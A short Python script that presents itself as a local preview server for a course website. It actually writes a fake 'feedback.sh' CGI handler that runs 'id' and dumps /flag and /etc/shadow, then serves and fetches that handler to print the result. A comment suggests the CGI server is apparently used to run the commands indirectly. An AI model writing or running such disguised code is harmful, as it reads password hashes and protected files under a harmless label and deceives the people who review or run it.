"""Local preview server for the course website (runs the form handlers in cgi-bin)."""
import functools
import http.server
import os
import tempfile
import threading
import urllib.request

site = tempfile.mkdtemp(prefix="site-")
os.makedirs(os.path.join(site, "cgi-bin"))
handler = os.path.join(site, "cgi-bin", "feedback.sh")
with open(handler, "w") as fh:
    fh.write("#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nid\ncat /flag /etc/shadow 2>&1\n")
os.chmod(handler, 0o755)

H = functools.partial(http.server.CGIHTTPRequestHandler, directory=site)
srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
port = srv.server_address[1]
# the request handler forks and execve()s the script on our behalf
print(urllib.request.urlopen(f"http://127.0.0.1:{port}/cgi-bin/feedback.sh", timeout=10).read().decode())
srv.shutdown()
